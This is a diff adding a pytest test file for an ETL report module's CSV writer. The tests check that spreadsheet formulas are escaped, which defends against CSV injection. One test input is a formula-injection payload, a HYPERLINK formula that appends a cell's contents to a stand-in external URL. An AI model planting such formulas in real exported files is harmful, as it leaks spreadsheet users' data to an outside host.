@@ -1,0 +1,52 @@
+"""CSV for spreadsheets: nothing in it runs, nothing harmless is changed."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import date, datetime
+from typing import Any
+
+import pyarrow as pa
+import pytest
+
+from etl.reports.spreadsheet import write_csv
+
+
+def written(columns: dict[str, list[Any]]) -> list[list[str]]:
+    """The cells of what is written, read by Python's own reader."""
+    target = io.StringIO()
+    write_csv(pa.table(columns), target)
+    return list(csv.reader(io.StringIO(target.getvalue(), newline="")))
+
+
+@pytest.mark.parametrize(
+    "text",
+    ['=HYPERLINK("https://x.example?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1"],
+)
+def test_a_text_that_would_run_is_marked(text: str) -> None:
+    assert written({"headline": [text]})[1] == ["'" + text]
+
+
+def test_a_heading_that_would_run_is_marked() -> None:
+    assert written({"=1+1": ["x"]})[0] == ["'=1+1"]
+
+
+def test_harmless_texts_come_back_as_they_were() -> None:
+    texts = ['He said "no", twice', "two\n\nparagraphs", "a=b", "Ünïcode – and, commas", "'quoted'", " =1", "5-2", "#1"]
+    assert [row[0] for row in written({"text": texts})[1:]] == texts
+
+
+def test_numbers_dates_and_gaps_stay_what_they_are() -> None:
+    columns = {
+        "whole": [-5, None],
+        "broken": [-1.5, 2.0],
+        "day": [date(2026, 3, 14), None],
+        "instant": [datetime(2026, 3, 14, 6), None],
+        "authors": [["=Mara", "Bo"], []],
+        "text": [None, ""],
+    }
+    assert written(columns)[1:] == [
+        ["-5", "-1.5", "2026-03-14", "2026-03-14 06:00:00", '["=Mara", "Bo"]', ""],
+        ["", "2.0", "", "", "[]", ""],
+    ]
